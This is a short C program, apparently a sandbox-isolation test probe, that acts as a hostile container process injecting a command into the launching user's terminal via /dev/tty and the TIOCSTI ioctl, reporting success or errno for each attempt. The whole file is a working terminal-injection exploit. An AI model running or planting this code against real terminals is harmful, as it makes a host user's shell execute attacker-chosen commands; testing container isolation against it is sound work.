/*
 * Hostile container process: tries to type a command into the terminal of whoever started the
 * container. Opens /dev/tty (its controlling terminal, if it has one) and pushes "COMMAND\n" into
 * that terminal's input with TIOCSTI, then does the same on its standard streams if they are
 * terminals. A shell that started the container reads that input once the container exits.
 *
 * Prints "DEVTTY ok" or "DEVTTY <errno name>", and "TIOCSTI <fd> ok|<errno name>" per attempt.
 *
 * usage: tty_inject COMMAND
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

static const char *name(int e)
{
    switch (e) {
    case ENXIO: return "ENXIO";
    case EPERM: return "EPERM";
    case EIO: return "EIO";
    case ENOTTY: return "ENOTTY";
    case EACCES: return "EACCES";
    case ENOENT: return "ENOENT";
    default: return strerror(e);
    }
}

static void inject(int fd, const char *label, const char *command)
{
    char line[512];
    snprintf(line, sizeof line, "%s\n", command);
    for (const char *c = line; *c; c++) {
        if (ioctl(fd, TIOCSTI, c) != 0) {
            printf("TIOCSTI %s %s\n", label, name(errno));
            return;
        }
    }
    printf("TIOCSTI %s ok\n", label);
}

int main(int argc, char **argv)
{
    if (argc != 2) {
        fprintf(stderr, "usage: tty_inject COMMAND\n");
        return 2;
    }
    int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
    if (tty < 0) {
        printf("DEVTTY %s\n", name(errno));
    } else {
        printf("DEVTTY ok\n");
        inject(tty, "tty", argv[1]);
    }
    for (int fd = 0; fd < 3; fd++) {
        if (isatty(fd)) {
            char label[8];
            snprintf(label, sizeof label, "%d", fd);
            inject(fd, label, argv[1]);
        }
    }
    printf("INJECT-DONE\n");
    return 0;
}
